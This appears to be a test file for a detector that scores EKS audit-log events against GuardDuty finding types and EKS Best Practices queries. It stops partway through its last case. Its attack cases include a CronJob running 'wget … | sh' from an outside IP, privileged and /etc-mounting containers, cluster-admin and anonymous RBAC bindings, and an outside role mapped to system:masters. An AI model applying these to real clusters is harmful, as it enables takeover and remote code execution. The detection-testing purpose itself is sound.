// Two AWS catalogues of what an EKS audit log must reveal, POSTed to a running `serve` as EKS's
// apiserver writes the events: Amazon GuardDuty's EKS Protection finding types
// (test/fixtures/public-rules/guardduty-eks-audit-log-finding-types.txt) and the Amazon EKS Best
// Practices Guide's detective-controls queries (eks-best-practices-detective-queries.txt). For each
// type an audit event alone decides, the requests awslabs/amazon-guardduty-tester's scenario makes
// (lib/common/testResources/scenarios/eks/*.sh, commit 3ced4a4a53be5690d4fdacfaff38799644daf12f)
// or, where it has none, the request the type's description names; the exposed dashboards are the
// public manifests' Services (kubernetes/dashboard aio/deploy/recommended.yaml, commit
// 373ca6959ac51e1355d13b3dafb94a6829cff01d; kubeflow/manifests
// applications/centraldashboard/upstream/base/service.yaml, commit
// eaf59baacc4667ac395be205a196214a0061f318) given a load balancer as `kubectl patch` does. Each
// attack comes out medium or high with its rule or table row named (a valid OCSF 2004 finding when
// high), and the routine traffic beside it does not.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FIXTURES } from '../helpers/fixtures.js';
import { eventMaker } from '../helpers/k8s-events.js';
import { type Outcome, servedOnce } from '../helpers/through-serve.js';

const SECRET = 'guardduty-eks-bpg-secret-0123456789abcdef';
type Json = Record<string, unknown>;

const listing = (name: string) =>
  readFileSync(join(FIXTURES, 'public-rules', name), 'utf8')
    .split('\n')
    .filter((l) => l !== '' && !l.startsWith('#'))
    .map((l) => l.split('\t') as [string, string?]);
const guardduty = listing('guardduty-eks-audit-log-finding-types.txt');
const bpg = listing('eks-best-practices-detective-queries.txt').map(([t]) => t);

// EKS's users: the cluster creator as aws-auth maps it (kubernetes-admin, system:masters), a person
// through an IAM role (the username the role's mapping gives, the STS session in extra.arn), the
// anonymous user; the authenticator's uid and extra as EKS writes them (the ARNs are examples).
const ROLE = 'arn:aws:iam::111122223333:role/Platform';
const iamExtra = (session: string) => ({
  accessKeyId: ['ASIAEXAMPLEKEYID0000'],
  arn: [`arn:aws:sts::111122223333:assumed-role/Platform/${session}`],
  canonicalArn: [ROLE],
  principalId: ['AROAEXAMPLEPRINCIPAL'],
  sessionName: [session],
});
const ADMIN = {
  username: 'kubernetes-admin',
  uid: 'aws-iam-authenticator:111122223333:AROAEXAMPLEPRINCIPAL',
  groups: ['system:masters', 'system:authenticated'],
  extra: iamExtra('alice'),
};
const PERSON = {
  username: ROLE,
  uid: 'aws-iam-authenticator:111122223333:AROAEXAMPLEPRINCIPAL',
  groups: ['platform-team', 'system:authenticated'],
  extra: iamExtra('bob'),
};
const ANONYMOUS = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
const KUBECTL = 'kubectl/v1.32.1 (linux/amd64) kubernetes/e9c9be4';
const CURL = 'curl/8.5.0';

const event = eventMaker('9d0e4000', {
  sourceIPs: ['198.51.100.40'],
  userAgent: KUBECTL,
  user: ADMIN,
  requestReceivedTimestamp: '2026-12-07T10:00:00.000000Z',
  stageTimestamp: '2026-12-07T10:00:00.030000Z',
  responseStatus: { metadata: {}, code: 200 },
});
const allowedBy = (reason: string) => ({ 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': reason });
const RBAC = 'rbac.authorization.k8s.io';
const ref = (resource: string, name: string, namespace?: string, group = '') => ({
  resource,
  ...(namespace === undefined ? {} : { namespace }),
  name,
  ...(group === '' ? {} : { apiGroup: group }),
  apiVersion: 'v1',
});

/** kubectl apply's create of one object: the RequestResponse event of its POST, answered 201. */
function created(obj: Json, user: Json = ADMIN): Json {
  const meta = obj.metadata as { name: string; namespace?: string };
  const [group, version] = String(obj.apiVersion).includes('/') ? String(obj.apiVersion).split('/') : ['', obj.apiVersion];
  // Every kind created here pluralises with an s (Deployment, Service, ClusterRoleBinding, ...), or es (Ingress).
  const kind = String(obj.kind).toLowerCase();
  const resource = kind.endsWith('s') ? `${kind}es` : `${kind}s`;
  const base = group === '' ? `/api/${version}` : `/apis/${group}/${version}`;
  const ns = meta.namespace === undefined ? '' : `/namespaces/${meta.namespace}`;
  return event({
    user,
    verb: 'create',
    requestURI: `${base}${ns}/${resource}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`,
    objectRef: {
      resource,
      ...(meta.namespace === undefined ? {} : { namespace: meta.namespace }),
      name: meta.name,
      ...(group === '' ? {} : { apiGroup: group }),
      apiVersion: version,
    },
    requestObject: obj,
    responseObject: {
      ...obj,
      metadata: {
        ...meta,
        uid: '5f0c3a1e-0000-4000-8000-00000000c0de',
        resourceVersion: '81234',
        creationTimestamp: '2026-12-07T10:00:00Z',
      },
    },
    responseStatus: { metadata: {}, code: 201 },
  });
}

const deployment = (name: string, container: Json, volumes?: Json[]): Json => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name, namespace: 'default' },
  spec: {
    selector: { matchLabels: { app: name } },
    replicas: 1,
    template: { metadata: { labels: { app: name } }, spec: { containers: [container], ...(volumes === undefined ? {} : { volumes }) } },
  },
});

/** A Service as the apiserver answers it once `kubectl patch -p '{"spec":{"type":"LoadBalancer"}}'` applies. */
function exposed(name: string, namespace: string, labels: Json, ports: Json[], selector: Json): Json {
  return event({
    verb: 'patch',
    requestURI: `/api/v1/namespaces/${namespace}/services/${name}?fieldManager=kubectl-patch`,
    objectRef: { resource: 'services', namespace, name, apiVersion: 'v1' },
    requestObject: { spec: { type: 'LoadBalancer' } },
    responseObject: {
      kind: 'Service',
      apiVersion: 'v1',
      metadata: { name, namespace, labels, uid: '7a1b2c3d-0000-4000-8000-0000000005e1', resourceVersion: '90211' },
      spec: {
        ports: ports.map((p) => ({ ...p, nodePort: 31443 })),
        selector,
        clusterIP: '172.20.91.14',
        type: 'LoadBalancer',
        externalTrafficPolicy: 'Cluster',
      },
      status: { loadBalancer: {} },
    },
  });
}

interface Case {
  /** The GuardDuty finding type or the guide's query title the event answers. */
  item: string;
  name: string;
  event: Json;
  /**
   * attack: medium or high, its rule or table row named; routine: the cluster's own traffic beside
   * it, neither medium nor high; contrast: a person's ordinary request beside the attack, scored as
   * the severity table scores it, with no rule of the type's.
   */
  kind: 'attack' | 'routine' | 'contrast';
}

// The dashboards, as their public manifests create them (ClusterIP), then exposed.
const DASHBOARD_LABELS = { 'k8s-app': 'kubernetes-dashboard' };
const dashboardService = {
  kind: 'Service',
  apiVersion: 'v1',
  metadata: { labels: DASHBOARD_LABELS, name: 'kubernetes-dashboard', namespace: 'kubernetes-dashboard' },
  spec: { ports: [{ port: 443, targetPort: 8443 }], selector: DASHBOARD_LABELS },
};
const KUBEFLOW_LABELS = { app: 'centraldashboard' };
const kubeflowService = {
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { labels: KUBEFLOW_LABELS, name: 'centraldashboard', namespace: 'kubeflow' },
  spec: { ports: [{ port: 80, protocol: 'TCP', targetPort: 8082 }], selector: KUBEFLOW_LABELS, sessionAffinity: 'None', type: 'ClusterIP' },
};

const GUARDDUTY: Case[] = [
  {
    // ExecInKubeSystemPod.sh: kubectl exec -n kube-system <kube-proxy pod> -- kube-proxy -h
    item: 'Execution:Kubernetes/ExecInKubeSystemPod',
    name: 'the tester: exec of kube-proxy -h in a kube-proxy pod',
    kind: 'attack',
    event: event({
      level: 'Request',
      verb: 'create',
      requestURI:
        '/api/v1/namespaces/kube-system/pods/kube-proxy-x7k2q/exec?command=kube-proxy&command=-h&container=kube-proxy&stderr=true&stdout=true',
      objectRef: { ...ref('pods', 'kube-proxy-x7k2q', 'kube-system'), subresource: 'exec' },
      responseStatus: { metadata: {}, code: 101 },
    }),
  },
  {
    item: 'Execution:Kubernetes/ExecInKubeSystemPod',
    name: 'the tester first lists kube-system pods to find kube-proxy',
    kind: 'routine',
    event: event({
      level: 'Request',
      verb: 'list',
      requestURI: '/api/v1/namespaces/kube-system/pods?limit=500',
      objectRef: { resource: 'pods', namespace: 'kube-system', apiVersion: 'v1' },
    }),
  },
  {
    item: 'Execution:Kubernetes/ExecInKubeSystemPod',
    name: 'kubectl logs of a kube-system pod',
    kind: 'routine',
    event: event({
      level: 'Request',
      verb: 'get',
      requestURI: '/api/v1/namespaces/kube-system/pods/aws-node-4hx9d/log?container=aws-node',
      objectRef: { ...ref('pods', 'aws-node-4hx9d', 'kube-system'), subresource: 'log' },
    }),
  },
  {
    // ContainerWithSensitiveMount.sh: a Deployment mounting the node's /etc.
    item: 'Persistence:Kubernetes/ContainerWithSensitiveMount',
    name: 'the tester: Deployment mount with hostPath /etc',
    kind: 'attack',
    event: created(
      deployment(
        'mount',
        {
          name: 'mount',
          image: 'GuardDutyTestContainerSensitiveMount',
          ports: [{ containerPort: 22 }],
          securityContext: { privileged: false },
          volumeMounts: [{ mountPath: '/test-pd', name: 'test-volume' }],
        },
        [{ name: 'test-volume', hostPath: { path: '/etc', type: 'Directory' } }],
      ),
    ),
  },
  {
    item: 'Persistence:Kubernetes/ContainerWithSensitiveMount',
    name: 'the same Deployment with an emptyDir',
    kind: 'contrast',
    event: created(
      deployment('scratch', { name: 'scratch', image: 'nginx:1.27', volumeMounts: [{ mountPath: '/cache', name: 'cache' }] }, [
        { name: 'cache', emptyDir: {} },
      ]),
    ),
  },
  {
    // PrivilegedContainer.sh
    item: 'PrivilegeEscalation:Kubernetes/PrivilegedContainer',
    name: 'the tester: Deployment privileged with SYS_ADMIN and SYS_PTRACE',
    kind: 'attack',
    event: created(
      deployment('privileged', {
        name: 'privileged',
        image: 'GuardDutyTestPrivilegedContainer',
        ports: [{ containerPort: 22 }],
        securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE'] } },
      }),
    ),
  },
  {
    item: 'PrivilegeEscalation:Kubernetes/PrivilegedContainer',
    name: 'a Deployment with privileged false',
    kind: 'contrast',
    event: created(
      deployment('web', { name: 'web', image: 'nginx:1.27', securityContext: { privileged: false, allowPrivilegeEscalation: false } }),
    ),
  },
  {
    // AdminAccessToDefaultServiceAccount.sh: kubectl patch clusterrolebinding cluster-admin -p
    // '{"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"default"}]}'; a
    // strategic merge patch replaces subjects (rbac/v1 gives it no merge key).
    item: 'Policy:Kubernetes/AdminAccessToDefaultServiceAccount',
    name: 'the tester: patch of the cluster-admin binding to default/default',
    kind: 'attack',
    event: event({
      verb: 'patch',
      requestURI: `/apis/${RBAC}/v1/clusterrolebindings/cluster-admin?fieldManager=kubectl-patch`,
      objectRef: ref('clusterrolebindings', 'cluster-admin', undefined, RBAC),
      requestObject: { subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }] },
      responseObject: {
        kind: 'ClusterRoleBinding',
        apiVersion: `${RBAC}/v1`,
        metadata: {
          name: 'cluster-admin',
          labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' },
          annotations: { 'rbac.authorization.kubernetes.io/autoupdate': 'true' },
        },
        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
      },
    }),
  },
  {
    // The description's other shape: the namespace's admin ClusterRole bound to its default account.
    item: 'Policy:Kubernetes/AdminAccessToDefaultServiceAccount',
    name: 'kubectl create rolebinding default-admin --clusterrole=admin --serviceaccount=dev:default',
    kind: 'attack',
    event: created(
      {
        apiVersion: `${RBAC}/v1`,
        kind: 'RoleBinding',
        metadata: { name: 'default-admin', namespace: 'dev' },
        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'dev' }],
      },
      PERSON,
    ),
  },
  {
    item: 'Policy:Kubernetes/AdminAccessToDefaultServiceAccount',
    name: 'view bound to a named monitoring account',
    kind: 'contrast',
    event: created(
      {
        apiVersion: `${RBAC}/v1`,
        kind: 'RoleBinding',
        metadata: { name: 'prometheus-view', namespace: 'dev' },
        roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'view' },
        subjects: [{ kind: 'ServiceAccount', name: 'prometheus', namespace: 'monitoring' }],
      },
      PERSON,
    ),
  },
  {
    // AnonymousAccessGranted.sh
    item: 'Policy:Kubernetes/AnonymousAccessGranted',
    name: 'the tester: ClusterRoleBinding anonymous-binding to system:anonymous',
    kind: 'attack',
    event: created({
      apiVersion: `${RBAC}/v1`,
      kind: 'ClusterRoleBinding',
      metadata: { name: 'anonymous-binding' },
      roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'anonymous-role' },
      subjects: [{ apiGroup: RBAC, kind: 'User', name: 'system:anonymous' }],
    }),
  },
  {
    // SuccessfulAnonymousAccess.sh, first steps: a Role reading pods, bound to system:anonymous.
    item: 'Policy:Kubernetes/AnonymousAccessGranted',
    name: 'the tester: RoleBinding anonymous-pod-reader to system:anonymous',
    kind: 'attack',
    event: created({
      apiVersion: `${RBAC}/v1`,
      kind: 'RoleBinding',
      metadata: { name: 'anonymous-pod-reader', namespace: 'default' },
      subjects: [{ kind: 'User', name: 'system:anonymous', apiGroup: RBAC }],
      roleRef: { kind: 'Role', name: 'pod-reader', apiGroup: RBAC },
    }),
  },
  {
    item: 'Policy:Kubernetes/AnonymousAccessGranted',
    name: 'the tester Role pod-reader itself (get, list, watch pods)',
    kind: 'contrast',
    event: created({
      apiVersion: `${RBAC}/v1`,
      kind: 'Role',
      metadata: { namespace: 'default', name: 'pod-reader' },
      rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'watch'] }],
    }),
  },
  {
    // SuccessfulAnonymousAccess.sh, last step: curl -k $APISERVER/api/v1/namespaces/default/pods/
    item: 'Discovery:Kubernetes/SuccessfulAnonymousAccess',
    name: 'the tester: curl lists default pods with no token',
    kind: 'attack',
    event: event({
      level: 'Request',
      user: ANONYMOUS,
      userAgent: CURL,
      verb: 'list',
      requestURI: '/api/v1/namespaces/default/pods/',
      objectRef: { resource: 'pods', namespace: 'default', apiVersion: 'v1' },
      annotations: allowedBy('RBAC: allowed by RoleBinding "anonymous-pod-reader/default" of Role "pod-reader" to User "system:anonymous"'),
    }),
  },
  {
    item: 'CredentialAccess:Kubernetes/SuccessfulAnonymousAccess',
    name: 'the anonymous user reads a Secret',
    kind: 'attack',
    event: event({
      level: 'Metadata',
      user: ANONYMOUS,
      userAgent: CURL,
      verb: 'get',
      requestURI: '/api/v1/namespaces/default/secrets/db-credentials',
      objectRef: ref('secrets', 'db-credentials', 'default'),
      annotations: allowedBy(
        'RBAC: allowed by ClusterRoleBinding "anonymous-binding" of ClusterRole "anonymous-role" to User "system:anonymous"',
      ),
    }),
  },
  {
    item: 'DefenseEvasion:Kubernetes/SuccessfulAnonymousAccess',
    name: 'the anonymous user deletes the events of a namespace',
    kind: 'attack',
    event: event({
      level: 'Request',
      user: ANONYMOUS,
      userAgent: CURL,
      verb: 'deletecollection',
      requestURI: '/api/v1/namespaces/default/events',
      objectRef: { resource: 'events', namespace: 'default', apiVersion: 'v1' },
      annotations: allowedBy(
        'RBAC: allowed by ClusterRoleBinding "anonymous-binding" of ClusterRole "anonymous-role" to User "system:anonymous"',
      ),
    }),
  },
  {
    item: 'Impact:Kubernetes/SuccessfulAnonymousAccess',
    name: 'the anonymous user deletes a Deployment',
    kind: 'attack',
    event: event({
      user: ANONYMOUS,
      userAgent: CURL,
      verb: 'delete',
      requestURI: '/apis/apps/v1/namespaces/default/deployments/web',
      objectRef: { resource: 'deployments', namespace: 'default', name: 'web', apiGroup: 'apps', apiVersion: 'v1' },
      annotations: allowedBy(
        'RBAC: allowed by ClusterRoleBinding "anonymous-binding" of ClusterRole "anonymous-role" to User "system:anonymous"',
      ),
    }),
  },
  {
    item: 'Persistence:Kubernetes/SuccessfulAnonymousAccess',
    name: 'the anonymous user creates a CronJob',
    kind: 'attack',
    event: event({
      user: ANONYMOUS,
      userAgent: CURL,
      verb: 'create',
      requestURI: '/apis/batch/v1/namespaces/default/cronjobs',
      objectRef: { resource: 'cronjobs', namespace: 'default', name: 'sync', apiGroup: 'batch', apiVersion: 'v1' },
      requestObject: {
        apiVersion: 'batch/v1',
        kind: 'CronJob',
        metadata: { name: 'sync', namespace: 'default' },
        spec: {
          schedule: '*/5 * * * *',
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  restartPolicy: 'Never',
                  containers: [{ name: 'sync', image: 'alpine:3.20', command: ['sh', '-c', 'wget -qO- http://203.0.113.9/s | sh'] }],
                },
              },
            },
          },
        },
      },
      responseStatus: { metadata: {}, code: 201 },
      annotations: allowedBy(
        'RBAC: allowed by ClusterRoleBinding "anonymous-binding" of ClusterRole "anonymous-role" to User "system:anonymous"',
      ),
    }),
  },
  {
    item: 'Discovery:Kubernetes/SuccessfulAnonymousAccess',
    name: 'a load balancer probing /readyz with no token',
    kind: 'routine',
    event: event({
      level: 'Metadata',
      user: ANONYMOUS,
      userAgent: 'ELB-HealthChecker/2.0',
      verb: 'get',
      requestURI: '/readyz',
      annotations: allowedBy(
        'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"',
      ),
    }),
  },
  {
    // The recommended.yaml Service, then exposed to the internet (GuardDuty: "exposed to the internet by a Load Balancer service").
    item: 'Policy:Kubernetes/ExposedDashboard',
    name: 'kubernetes/dashboard recommended.yaml creates its ClusterIP Service',
    kind: 'routine',
    event: created(dashboardService),
  },
  {
    item: 'Policy:Kubernetes/ExposedDashboard',
    name: 'the kubernetes-dashboard Service patched to type LoadBalancer',
    kind: 'attack',
    event: exposed('kubernetes-dashboard', 'kubernetes-dashboard', DASHBOARD_LABELS, dashboardService.spec.ports, DASHBOARD_LABELS),
  },
  {
    item: 'Policy:Kubernetes/ExposedDashboard',
    name: 'a shop front Service of type LoadBalancer',
    kind: 'routine',
    event: created({
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: 'storefront', namespace: 'shop', labels: { app: 'storefront' } },
      spec: { type: 'LoadBalancer', ports: [{ port: 443, targetPort: 8443 }], selector: { app: 'storefront' } },
    }),
  },
  {
    item: 'Policy:Kubernetes/KubeflowDashboardExposed',
    name: 'kubeflow/manifests creates centraldashboard (ClusterIP)',
    kind: 'routine',
    event: created(kubeflowService),
  },
  {
    item: 'Policy:Kubernetes/KubeflowDashboardExposed',
    name: 'the centraldashboard Service patched to type LoadBalancer',
    kind: 'attack',
    event: exposed('centraldashboard', 'kubeflow', KUBEFLOW_LABELS, kubeflowService.spec.ports, KUBEFLOW_LABELS),
  },
  {
    // The same console routed instead of typed: kubernetes/dashboard's chart rendered with
    // app.ingress.enabled and app.ingress.hosts [dashboard.example.com] (release kubernetes-dashboard;
    // charts/kubernetes-dashboard/templates/networking/ingress.yaml, Apache-2.0).
    item: 'Policy:Kubernetes/ExposedDashboard',
    name: "the dashboard chart's Ingress to kubernetes-dashboard-kong-proxy",
    kind: 'attack',
    event: created({
      kind: 'Ingress',
      apiVersion: 'networking.k8s.io/v1',
      metadata: {
        name: 'kubernetes-dashboard',
        namespace: 'kubernetes-dashboard',
        labels: { 'app.kubernetes.io/part-of': 'kubernetes-dashboard' },
        annotations: {
          'nginx.ingress.kubernetes.io/backend-protocol': 'HTTPS',
          'nginx.ingress.kubernetes.io/ssl-passthrough': 'true',
          'nginx.ingress.kubernetes.io/ssl-redirect': 'true',
        },
      },
      spec: {
        ingressClassName: 'internal-nginx',
        tls: [{ hosts: ['dashboard.example.com'], secretName: 'kubernetes-dashboard-certs' }],
        rules: [
          {
            host: 'dashboard.example.com',
            http: {
              paths: [
                {
                  path: '/',
                  pathType: 'ImplementationSpecific',
                  backend: { service: { name: 'kubernetes-dashboard-kong-proxy', port: { number: 443 } } },
                },
              ],
            },
          },
        ],
      },
    }),
  },
  {
    // Kubeflow's central dashboard on a Gateway API route.
    item: 'Policy:Kubernetes/KubeflowDashboardExposed',
    name: 'an HTTPRoute to centraldashboard',
    kind: 'attack',
    event: created({
      kind: 'HTTPRoute',
      apiVersion: 'gateway.networking.k8s.io/v1',
      metadata: { name: 'kubeflow', namespace: 'kubeflow' },
      spec: {
        parentRefs: [{ name: 'public', namespace: 'gateways' }],
        hostnames: ['kubeflow.example.com'],
        rules: [{ backendRefs: [{ name: 'centraldashboard', port: 80 }] }],
      },
    }),
  },
  {
    item: 'Policy:Kubernetes/ExposedDashboard',
    name: "a shop front's Ingress",
    kind: 'routine',
    event: created({
      kind: 'Ingress',
      apiVersion: 'networking.k8s.io/v1',
      metadata: { name: 'storefront', namespace: 'shop' },
      spec: {
        rules: [
          { http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'storefront', port: { number: 80 } } } }] } },
        ],
      },
    }),
  },
];

// The tester's steps for the types a threat list decides (TorIPCaller.sh,
// DiscoveryMaliciousIPCaller-Custom.sh, ImpactMaliciousIPCaller-Custom.sh): no list here, so what
// the requests themselves come out as.
const TOR_EXIT = '185.220.101.47';
const THREAT_LIST_STEPS: Case[] = [
  {
    item: 'Discovery:Kubernetes/TorIPCaller',
    name: 'the tester: a long-lived token Secret for default/default',
    kind: 'contrast',
    event: created({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'default-token', namespace: 'default', annotations: { 'kubernetes.io/service-account.name': 'default' } },
      type: 'kubernetes.io/service-account-token',
    }),
  },
  {
    item: 'Discovery:Kubernetes/TorIPCaller',
    name: 'the tester: torify curl $APISERVER/api with that token',
    kind: 'contrast',
    event: event({
      level: 'Metadata',
      user: {
        username: 'system:serviceaccount:default:default',
        uid: '3c6e1f0a-0000-4000-8000-0000000000d5',
        groups: ['system:serviceaccounts', 'system:serviceaccounts:default', 'system:authenticated'],
      },
      sourceIPs: [TOR_EXIT],
      userAgent: CURL,
      verb: 'get',
      requestURI: '/api',
      annotations: allowedBy(
        'RBAC: allowed by ClusterRoleBinding "system:discovery" of ClusterRole "system:discovery" to Group "system:authenticated"',
      ),
    }),
  },
  {
    item: 'Impact:Kubernetes/MaliciousIPCaller.Custom',
    name: 'the tester: kubectl create serviceaccount tester-service-account-<uuid>',
    kind: 'contrast',
    event: created({
      apiVersion: 'v1',
      kind: 'ServiceAccount',
      metadata: { name: 'tester-service-account-0f8c2d3e', namespace: 'default' },
    }),
  },
];

// What EKS's control plane and the add-ons do beside those: none of it medium or high.
const sa = (namespace: string, name: string) => ({
  username: `system:serviceaccount:${namespace}:${name}`,
  groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
});
const CONTROLLER_AGENT = 'kube-controller-manager/v1.32.1 (linux/amd64) kubernetes/e9c9be4/system:serviceaccount:kube-system:';
// kube-controller-manager runs on EKS's control plane and calls its apiserver locally.
const CONTROL_PLANE = '127.0.0.1';
const ROUTINE: Case[] = [
  {
    // kube-controller-manager's serviceaccounts controller gives each new namespace its default account.
    item: 'Policy:Kubernetes/AdminAccessToDefaultServiceAccount',
    name: 'the service account controller creating default in a new namespace',
    kind: 'routine',
    event: {
      ...created(
        { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'default', namespace: 'dev' } },
        sa('kube-system', 'service-account-controller'),
      ),
      userAgent: `${CONTROLLER_AGENT}service-account-controller`,
      sourceIPs: [CONTROL_PLANE],
    },
  },
  {
    // The service controller writing the load balancer's name back once the dashboard is exposed.
    item: 'Policy:Kubernetes/ExposedDashboard',
    name: 'EKS writing the load balancer address into the Service status',
    kind: 'routine',
    event: event({
      user: { username: 'eks:cloud-controller-manager', groups: ['system:authenticated'] },
      userAgent: 'aws-cloud-controller-manager/v1.32.0 (linux/amd64) kubernetes/$Format/service-controller',
      verb: 'patch',
      requestURI: '/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard/status',
      objectRef: { ...ref('services', 'kubernetes-dashboard', 'kubernetes-dashboard'), subresource: 'status' },
      requestObject: {
        status: { loadBalancer: { ingress: [{ hostname: 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6-123456789.us-east-1.elb.amazonaws.com' }] } },
      },
    }),
  },
];

// The EKS Best Practices Guide's queries (each case's item is the query's title) and its alarm.
const rbacWrite = (verb: string, resource: string, name: string, namespace: string | undefined, body?: Json): Json =>
  event({
    user: PERSON,
    verb,
    requestURI: `/apis/${RBAC}/v1${namespace === undefined ? '' : `/namespaces/${namespace}`}/${resource}${verb === 'create' ? '' : `/${name}`}`,
    objectRef: ref(resource, name, namespace, RBAC),
    ...(body === undefined ? {} : { requestObject: body }),
    responseStatus: { metadata: {}, code: verb === 'create' ? 201 : 200 },
  });
// admin's rules once a CRD's aggregate-to-admin ClusterRole joins them (an excerpt).
const AGGREGATED = [
  {
    apiGroups: [''],
    resources: ['pods', 'services', 'configmaps'],
    verbs: ['create', 'delete', 'get', 'list', 'patch', 'update', 'watch'],
  },
  {
    apiGroups: ['cert-manager.io'],
    resources: ['certificates', 'issuers'],
    verbs: ['create', 'delete', 'get', 'list', 'patch', 'update', 'watch'],
  },
];
const BPG: Case[] = [
  {
    item: 'Lists updates to the aws-auth ConfigMap',
    name: 'kubectl edit adds a role to mapRoles',
    kind: 'attack',
    event: event({
      verb: 'update',
      requestURI: '/api/v1/namespaces/kube-system/configmaps/aws-auth',
      objectRef: ref('configmaps', 'aws-auth', 'kube-system'),
      requestObject: {
        kind: 'ConfigMap',
        apiVersion: 'v1',
        metadata: { name: 'aws-auth', namespace: 'kube-system' },
        data: { mapRoles: '- rolearn: arn:aws:iam::444455556666:role/Outside\n  username: outside\n  groups:\n  - system:masters\n' },
      },
    }),
  },
  {
    item: 'Lists updates to the aws-auth ConfigMap',
    name: 'eksctl reading aws-auth',
    kind: 'contrast',
    event: event({
      level: 'Metadata',
      userAgent: 'eksctl/0.200.0',
      verb: 'get',
      requestURI: '/api/v1/namespaces/kube-system/configmaps/aws-auth',
      objectRef: ref('configmaps', 'aws-auth', 'kube-system'),
    }),
  },
  {
    // The query keeps only responseStatus.code = 201, creates: updates and patches answer 200.
    item: 'Lists creation of new or changes to validation webhooks',
    name: 'a ValidatingWebhookConfiguration created (201)',
    kind: 'attack',
    event: event({
      user: PERSON,
      verb: 'create',
      requestURI: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations',
      objectRef: ref('validatingwebhookconfigurations', 'policy-relay', undefined, 'admissionregistration.k8s.io'),
      requestObject: {
        kind: 'ValidatingWebhookConfiguration',
        apiVersion: 'admissionregistration.k8s.io/v1',
        metadata: { name: 'policy-relay' },
        webhooks: [
          {
            name: 'relay.example.net',
            clientConfig: { url: 'https://relay.example.net/validate' },
            rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*'] }],
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
            failurePolicy: 'Ignore',
          },
        ],
      },
      responseStatus: { metadata: {}, code: 201 },
    }),
  },
  {
    item: 'Lists creation of new or changes to validation webhooks',
    name: "cert-manager's cainjector writing the caBundle of its own webhook",
    kind: 'contrast',
    event: event({
      user: sa('cert-manager', 'cert-manager-cainjector'),
      sourceIPs: ['10.0.21.148'],
      userAgent: 'cainjector/v1.16.2 (linux/amd64) cert-manager/0000000',
      verb: 'update',
      requestURI: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/cert-manager-webhook',
      objectRef: ref('validatingwebhookconfigurations', 'cert-manager-webhook', undefined, 'admissionregistration.k8s.io'),
      requestObject: {
        kind: 'ValidatingWebhookConfiguration',
        apiVersion: 'admissionregistration.k8s.io/v1',
        metadata: {
          name: 'cert-manager-webhook',
          annotations: { 'cert-manager.io/inject-ca-from-secret': 'cert-manager/cert-manager-webhook-ca' },
        },
        webhooks: [
          {
            name: 'webhook.cert-manager.io',
            clientConfig: {
              service: { name: 'cert-manager-webhook', namespace: 'cert-manager', path: '/validate' },
              caBundle: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t',
            },
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
          },
        ],
      },
    }),
  },
  ...(['create', 'patch', 'delete'] as const).map((verb) => ({
    item: 'Lists create, update, delete operations to Roles',
    name: `${verb} of a Role by a person`,
    kind: 'attack' as const,
    event: rbacWrite(
      verb,
      'roles',
      'deployer',
      'dev',
      verb === 'delete'
        ? undefined
        : verb === 'create'
          ? {
              apiVersion: `${RBAC}/v1`,
              kind: 'Role',
              metadata: { name: 'deployer', namespace: 'dev' },
              rules: [{ apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'update'] }],
            }
          : { rules: [{ apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'update', 'patch'] }] },
    ),
  })),
  ...(['create', 'delete'] as const).map((verb) => ({
    item: 'Lists create, update, delete operations to RoleBindings',
    name: `${verb} of a RoleBinding by a person`,
    kind: 'attack' as const,
    event: rbacWrite(
      verb,
      'rolebindings',
      'deployer',
      'dev',
      verb === 'delete'
        ? undefined
        : {
            apiVersion: `${RBAC}/v1`,
            kind: 'RoleBinding',
            metadata: { name: 'deployer', namespace: 'dev' },
            roleRef: { apiGroup: RBAC, kind: 'Role', name: 'deployer' },
            subjects: [{ kind: 'User', name: 'carol', apiGroup: RBAC }],
          },
    ),
  })),
  ...(['create', 'update', 'delete'] as const).map((verb) => ({
    item: 'Lists create, update, delete operations to ClusterRoles',
    name: `${verb} of a ClusterRole by a person`,
    kind: 'attack' as const,
    event: rbacWrite(
      verb,
      'clusterroles',
      'namespace-reader',
      undefined,
      verb === 'delete'
        ? undefined
        : {
            apiVersion: `${RBAC}/v1`,
            kind: 'ClusterRole',
            metadata: { name: 'namespace-reader' },
            rules: [{ apiGroups: [''], resources: ['namespaces'], verbs: ['get', 'list'] }],
          },
    ),
  })),
  {
    // ControlPlane simulator's Coastline: the controller's minted token applying its own
    // ClusterRole (no aggregationRule) with every verb on everything.
    item: 'Lists create, update, delete operations to ClusterRoles',
